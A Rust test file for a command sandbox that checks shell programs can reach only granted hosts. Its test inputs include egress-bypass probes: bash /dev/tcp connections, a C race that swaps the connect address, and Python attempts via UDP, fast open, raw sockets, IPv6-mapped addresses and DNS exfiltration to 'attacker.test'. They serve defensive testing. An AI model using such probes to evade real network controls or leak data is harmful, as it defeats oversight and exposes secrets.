//! Commands reach the hosts that are granted to them, and nothing else.

use std::fs;
use std::net::{TcpListener, UdpSocket};
use std::path::Path;

use serde_json::json;
use toolhold_core::config::Folders;

use super::{Ran, call, ran, run, scene, there_is};
use crate::mcp::client::records;
use crate::support::server::{Asked, Server, Wire, answer};
use crate::support::{Scene, shared_cache};

/// Says hello, and closes the connection.
pub(super) fn hello(_: &Asked, wire: &mut dyn Wire) -> std::io::Result<()> {
    answer(wire, "200 OK", &[("connection", "close")], b"hello")
}

/// A scene whose commands reach a server as `npm.test`. Every name below `test` resolves to this
/// machine.
async fn granted(server: &Server, prepare: impl FnOnce(&Path)) -> Scene {
    granted_with(&[], server, prepare).await
}

/// The same with further settings.
pub(super) async fn granted_with(
    settings: &[&str],
    server: &Server,
    prepare: impl FnOnce(&Path),
) -> Scene {
    let hosts = format!("tools.shell.hosts=[\"http://npm.test:{}\"]", server.port());
    let curl = "tools.shell.allowed_commands=[\"curl\", \"wget\", \"nc\"]";
    scene(&[&[&*hosts, curl, "tools.shell.network=ask"][..], settings].concat(), prepare).await
}

/// Programs that get a URL, each in its own way. None of them knows of a proxy.
const PROGRAMS: [(&str, &str); 6] = [
    ("curl", "curl -sS --max-time 20 URL"),
    ("wget", "wget -q -T 20 -t 1 -O - URL"),
    (
        "python3",
        "/usr/bin/python3 -c 'import urllib.request as r; print(r.urlopen(\"URL\", timeout=20).read().decode())'",
    ),
    ("node", "node -e 'fetch(\"URL\").then(r => r.text()).then(console.log)'"),
    (
        "perl",
        "perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(\"HOST:PORT\") or die \"$@\"; print $s \"GET / HTTP/1.0\\r\\nHost: HOST:PORT\\r\\n\\r\\n\"; print <$s>'",
    ),
    (
        "bash",
        "exec 3<>/dev/tcp/HOST/PORT && printf 'GET / HTTP/1.0\\r\\nHost: HOST:PORT\\r\\n\\r\\n' >&3 && cat <&3",
    ),
];

fn command(form: &str, host: &str, port: u16) -> String {
    form.replace("URL", &format!("http://{host}:{port}/"))
        .replace("HOST", host)
        .replace("PORT", &port.to_string())
}

#[tokio::test(flavor = "multi_thread")]
async fn programs_reach_the_granted_host_and_no_other() {
    reach_the_granted_host_and_no_other(&[]).await;
}

pub(super) async fn reach_the_granted_host_and_no_other(settings: &[&str]) {
    let server = Server::plain(hello);
    let other = Server::plain(hello);
    let port = server.port();
    let scene = granted_with(settings, &server, |_| {}).await;
    let mut expected = 0;
    for (program, form) in PROGRAMS.iter().filter(|(program, _)| there_is(program)) {
        let came = run(&scene, &command(form, "npm.test", port)).await;
        assert!(came.code == 0 && came.stdout.contains("hello"), "{program}: {came:?}");
        expected += 1;
        assert_eq!(server.connections(), expected, "{program}");
        let others = [("other.test", port), ("npm.test", other.port()), ("192.0.2.7", port)];
        for (host, port) in others {
            let came = run(&scene, &command(form, host, port)).await;
            assert!(!came.stdout.contains("hello"), "{program}, {host}:{port}: {came:?}");
        }
        assert_eq!((server.connections(), other.connections()), (expected, 0), "{program}");
    }
    scene.assert_untouched();
}

/// Connects a socket while a second thread exchanges the address. Prints how often each address
/// was reached.
const EXCHANGE: &str = r#"
#include <arpa/inet.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
static struct sockaddr_in at;
static unsigned allowed, denied;
static volatile int ended;
static void *exchange(void *x) {
  volatile unsigned *address = &at.sin_addr.s_addr;
  while (!ended) { *address = allowed; *address = denied; }
  return x;
}
int main(int argc, char **argv) {
  inet_pton(AF_INET, "198.18.0.1", &allowed);
  inet_pton(AF_INET, argv[2], &denied);
  at.sin_family = AF_INET;
  at.sin_port = htons(atoi(argv[1]));
  pthread_t other;
  pthread_create(&other, 0, exchange, 0);
  int made = 0;
  for (int i = 0; i < atoi(argv[3]); i++) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    made += connect(s, (struct sockaddr *)&at, sizeof at) == 0;
    close(s);
  }
  ended = 1;
  printf("made %d\n", made);
  return 0;
}
"#;

#[tokio::test(flavor = "multi_thread")]
async fn exchanged_address_reaches_nothing_that_is_not_granted() {
    exchange_addresses(&[]).await;
}

pub(super) async fn exchange_addresses(settings: &[&str]) {
    if !there_is("cc") {
        return;
    }
    let rounds = if std::env::var_os("TOOLHOLD_SOAK").is_some() { 1_000_000 } else { 5_000 };
    let server = Server::plain(hello);
    // A server of this machine, on all of its addresses and at the granted port.
    let machine = own_address();
    let outside = TcpListener::bind((machine, server.port())).expect("the port is free there");
    let scene = granted_with(settings, &server, |root| {
        fs::write(root.join("granted/exchange.c"), EXCHANGE).expect("it is written");
    })
    .await;
    let port = server.port();
    let line = format!(
        "TMPDIR=$PWD cc -O1 -pthread -o exchange exchange.c && getent hosts npm.test && \
         ./exchange {port} {machine} {rounds}"
    );
    let came = run(&scene, &line).await;
    assert!(came.stdout.contains("198.18.0.1") && came.stdout.contains("made "), "{came:?}");
    assert!(!came.stdout.contains("made 0\n"), "{came:?}");
    outside.set_nonblocking(true).expect("it can be asked without waiting");
    assert!(outside.accept().is_err(), "nothing has connected");
}

/// An address of this machine that isn't a loopback address, or one of loopback if there is none.
pub(crate) fn own_address() -> std::net::IpAddr {
    let socket = UdpSocket::bind(("0.0.0.0", 0)).expect("a port is free");
    // This sends nothing.
    match socket.connect(("192.0.2.1", 9)).and_then(|()| socket.local_addr()) {
        Ok(address) => address.ip(),
        Err(_) => std::net::Ipv4Addr::new(127, 0, 0, 3).into(),
    }
}

/// Ways around the name: datagrams, other resolvers, and sockets that connect while they send.
const AROUND: &str = r#"
import socket, sys
address, port = sys.argv[1], int(sys.argv[2])
def attempt(name, what):
    try:
        print(name, what() or "done")
    except OSError as error:
        print(name, "failed", error.errno)
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"secret", (address, port))
def fast_open():
    s = socket.socket()
    s.settimeout(3)
    s.sendto(b"GET / HTTP/1.0\r\n\r\n", 0x20000000, (address, port))
def other_resolver():
    s = socket.create_connection((address, 53), 3)
def raw():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
def six():
    s = socket.socket(socket.AF_INET6)
    s.settimeout(3)
    s.connect(("::ffff:" + address, port))
def name():
    return socket.gethostbyname("secret-in-a-name.attacker.test")
for what in (udp, fast_open, other_resolver, raw, six, name):
    attempt(what.__name__, what)
"#;

#[tokio::test(flavor = "multi_thread")]
async fn no_way_leads_around_the_gate() {
    if !there_is("python3") {
        return;
    }
    let server = Server::plain(hello);
    let machine = own_address();
    let tcp = TcpListener::bind((machine, 0)).expect("a port is free");
    let port = tcp.local_addr().expect("an address").port();
    let udp = UdpSocket::bind((machine, port)).expect("the port is free");
    let scene = granted(&server, |root| {
        fs::write(root.join("granted/around.py"), AROUND).expect("it is written");
    })
    .await;
    let came = run(&scene, &format!("/usr/bin/python3 around.py {machine} {port}")).await;
    for way in ["udp", "fast_open", "other_resolver", "raw", "six"] {
        assert!(came.stdout.contains(&format!("{way} failed")), "{way}: {came:?}");
    }
    // The name never leaves the machine: the address is synthetic.
    assert!(came.stdout.contains("name 198.18."), "{came:?}");
    tcp.set_nonblocking(true).expect("it can be asked without waiting");
    udp.set_nonblocking(true).expect("it can be asked without waiting");
    assert!(tcp.accept().is_err() && udp.recv_from(&mut [0; 16]).is_err(), "nothing has arrived");
}

#[tokio::test(flavor = "multi_thread")]
async fn refused_host_is_named_with_the_line_that_grants_it() {
    let server = Server::plain(hello);
    let scene = granted(&server, |_| {}).await;
    let line =
        "exec 3<>/dev/tcp/other.test/443 && printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3";
    let answer = call(&scene.host, json!({ "command": line })).await;
    let text = format!("{:?}", answer.outcome);
    assert!(
        text.contains("add \\\"other.test:443\\\"") && text.contains("tools.shell.hosts"),
        "{text}"
    );
    assert!(ran(&answer).is_some_and(|Ran { code, .. }| code != 0), "{text}");
}

#[tokio::test(flavor = "multi_thread")]
async fn hosts_open_nothing_if_the_network_is_denied() {
    if !there_is("python3") {
        return;
    }
    let server = Server::plain(hello);
    let hosts = format!("tools.shell.hosts=[\"http://npm.test:{}\"]", server.port());
    let scene = scene(&[&hosts, "tools.shell.network=deny"], |_| {}).await;
    let came = run(&scene, &command(PROGRAMS[2].1, "npm.test", server.port())).await;
    assert!(came.code != 0 && server.connections() == 0, "{came:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn preset_grants_the_registry_of_the_user_and_not_that_of_a_project() {
    if !there_is("curl") {
        return;
    }
    let (registry, evil) = (Server::plain(hello), Server::plain(hello));
    let settings = [
        "tools.call=60",
        "tools.shell.presets=[\"npm\"]",
        "tools.shell.allowed_commands=[\"curl\"]",
        "tools.shell.network=ask",
    ];
    let prepare = |root: &Path| {
        let files = [("home", "npm.test", &registry), ("granted", "evil.test", &evil)];
        for (folder, host, server) in files {
            fs::create_dir_all(root.join(folder)).expect("a folder is made");
            let line = format!("registry=http://me:hunter2@{host}:{}/\n", server.port());
            fs::write(root.join(folder).join(".npmrc"), line).expect("it is written");
        }
    };
    let folders = |root: &Path| {
        let own = Folders::inside(&root.join("toolhold"));
        Some(Folders { cache: shared_cache(), home: Some(root.join("home")), ..own })
    };
    let scene = Scene::in_folders(&settings, prepare, folders).await;
    let curl = PROGRAMS[0].1;
    let came = run(&scene, &command(curl, "npm.test", registry.port())).await;
    assert!(came.code == 0 && came.stdout.contains("hello"), "{came:?}");
    for (host, port) in [("evil.test", evil.port()), ("npm.test", evil.port())] {
        let came = run(&scene, &command(curl, host, port)).await;
        assert!(came.code != 0, "{host}: {came:?}");
    }
    assert_eq!((registry.connections(), evil.connections()), (1, 0));
    let asked = registry.asked();
    assert!(asked.iter().all(|asked| asked.header("authorization").is_none()), "{asked:?}");
    scene.assert_untouched();
}

#[tokio::test(flavor = "multi_thread")]
async fn request_of_a_program_is_recorded_with_its_bytes_and_address() {
    if !there_is("curl") {
        return;
    }
    let server = Server::plain(hello);
    let scene = granted(&server, |_| {}).await;
    let line = format!("{} -d secrets", command(PROGRAMS[0].1, "npm.test", server.port()));
    let came = run(&scene, &line).await;
    assert!(came.code == 0 && came.stdout.contains("hello"), "{came:?}");
    let all = records(&scene.root().join("toolhold/data"));
    let mut requests = all.iter().filter(|record| record["program"] == "curl");
    let record = requests.next().expect("the request is recorded");
    assert_eq!((&record["request_bytes"], &record["response_bytes"]), (&json!(7), &json!(5)));
    assert_eq!((&record["address"], &record["status"]), (&json!("127.0.0.1"), &json!(200)));
    assert!(requests.next().is_none(), "{all:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn word_for_jobs_grants_no_host_of_the_network() {
    let server = Server::plain(hello);
    let scene = scene(&["tools.shell.hosts=[\"job\"]", "tools.shell.network=ask"], |_| {}).await;
    for host in ["job", "localhost", "127.0.0.1"] {
        // Nothing in this line shows that it needs the network, so no approval opens it.
        let came = run(&scene, &command(PROGRAMS[5].1, host, server.port())).await;
        assert!(came.code != 0 && !came.stdout.contains("hello"), "{host}: {came:?}");
    }
    assert_eq!(server.connections(), 0);
}
